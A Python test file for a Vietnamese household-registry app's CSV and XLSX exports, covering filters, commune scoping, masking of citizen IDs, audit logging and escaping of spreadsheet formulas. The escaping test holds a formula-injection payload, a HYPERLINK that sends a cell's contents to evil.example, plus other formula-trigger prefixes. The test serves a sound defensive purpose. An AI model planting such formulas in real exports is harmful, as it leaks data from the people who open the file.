"""Exports of the lists as filtered on screen: XLSX and CSV, scoped, audited, safe in Excel."""

import csv
from datetime import date, datetime
from io import BytesIO, StringIO

from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import AuditLog
from app.services import exports
from tests.factories import make_household, make_review, make_task

CITIZEN_ID = "001085012345"


def csv_rows(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would misread the diacritics"
    assert b"\r\n" in body
    return list(csv.reader(StringIO(body.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(BytesIO(response.get_data())).active


def test_the_household_list_as_csv_keeps_vietnamese_and_the_filter(world, login_as):
    world.households.duc.members[0].citizen_id = CITIZEN_ID
    db.session.commit()
    response = login_as(world.users.staff).get("/households/export?format=csv&status=poor")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert 'filename="households-' in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0][:4] == ["Mã hộ", "Chủ hộ", "Số định danh của chủ hộ", "Dân tộc"]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {"A-0001", "B-0001"}  # the two poor households, not the near-poor one
    assert by_code["A-0001"][1:3] == ["Nguyễn Văn Đức", CITIZEN_ID]  # staff keep the registry: in full
    assert by_code["B-0001"][3] == "H'Mông" and by_code["B-0001"][8] == "Hộ nghèo"
    entry = db.session.scalars(select(AuditLog).where(AuditLog.action == "export")).one()
    assert entry.actor_id == world.users.staff.id
    assert entry.changes == {"list": "households", "format": "csv", "rows": 2, "filters": {"status": "poor"}}


def test_the_household_list_as_xlsx_masks_citizen_ids_for_readers_and_keeps_to_the_scope(world, login_as):
    world.households.duc.members[0].citizen_id = CITIZEN_ID
    db.session.commit()
    sheet = xlsx_sheet(login_as(world.users.manager).get("/households/export?format=xlsx"))
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Mã hộ"
    assert {row[0] for row in values[1:]} == {"A-0001", "A-0002", "B-0001"}
    duc = next(row for row in values[1:] if row[0] == "A-0001")
    assert duc[2] == "001******345"  # a manager reads, does not keep, the registry
    assert duc[11] == 1  # members: a number Excel can sum
    commune = xlsx_sheet(login_as(world.users.staff_a).get("/households/export"))  # xlsx by default
    assert {row[0] for row in commune.iter_rows(min_row=2, values_only=True)} == {"A-0001", "A-0002"}


def test_a_text_excel_would_run_as_a_formula_is_neutralised(world, login_as):
    """CSV: a leading apostrophe; XLSX: a string cell, never a formula, with its exact text."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    household = make_household(world.village_a1, attack, code="A-0666")
    make_review(household, 2019, "poor", criterion="income")
    db.session.commit()
    client = login_as(world.users.staff)
    rows = csv_rows(client.get("/households/export?format=csv&q=A-0666"))
    assert rows[1][1] == "'" + attack
    sheet = xlsx_sheet(client.get("/households/export?format=xlsx&q=A-0666"))
    cell = sheet.cell(row=2, column=2)
    assert (cell.value, cell.data_type) == (attack, "s")
    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exports.neutralised(text) == "'" + text
    assert exports.neutralised("Nguyễn -1") == "Nguyễn -1" and exports.neutralised(-1) == -1


def test_an_unknown_format_is_refused(world, login_as):
    assert login_as(world.users.staff).get("/households/export?format=pdf").status_code == 400


def test_the_task_list_exports_what_it_shows_with_dates_and_amounts(world, login_as, app, monkeypatch):
    monkeypatch.setitem(app.config, "TODAY", date(2020, 3, 20))
    org = world.organisations.a
    make_task(world.households.duc, org, "HOUSING", due=date(2020, 3, 1), title="@Sửa nhà")  # overdue
    make_task(
        world.households.lan,
        org,
        "HEALTH_CARD",
        status="done",
        done_on=date(2020, 2, 2),
        outcome_amount=1_500_000,
    )
    make_task(world.households.pao, org, "JOB", due=date(2020, 6, 30))
    db.session.commit()
    client = login_as(world.users.staff_a)
    rows = csv_rows(client.get("/tasks/export?format=csv"))
    assert rows[0][:4] == ["Hộ gia đình", "Chủ hộ", "Thôn/bản/tổ dân phố", "Loại"]
    by_household = {row[0]: row for row in rows[1:]}
    assert set(by_household) == {"A-0001", "A-0002"}  # Pao's task is in commune B
    housing = by_household["A-0001"]
    assert housing[4] == "'@Sửa nhà"  # a text Excel would run, neutralised
    assert (housing[8], housing[9], housing[10]) == ("01/03/2020", "Kế hoạch", "có")
    sheet = xlsx_sheet(client.get("/tasks/export?format=xlsx&status=done"))
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(values) == 1
    assert values[0][11] == datetime(2020, 2, 2) and values[0][12] == 1_500_000
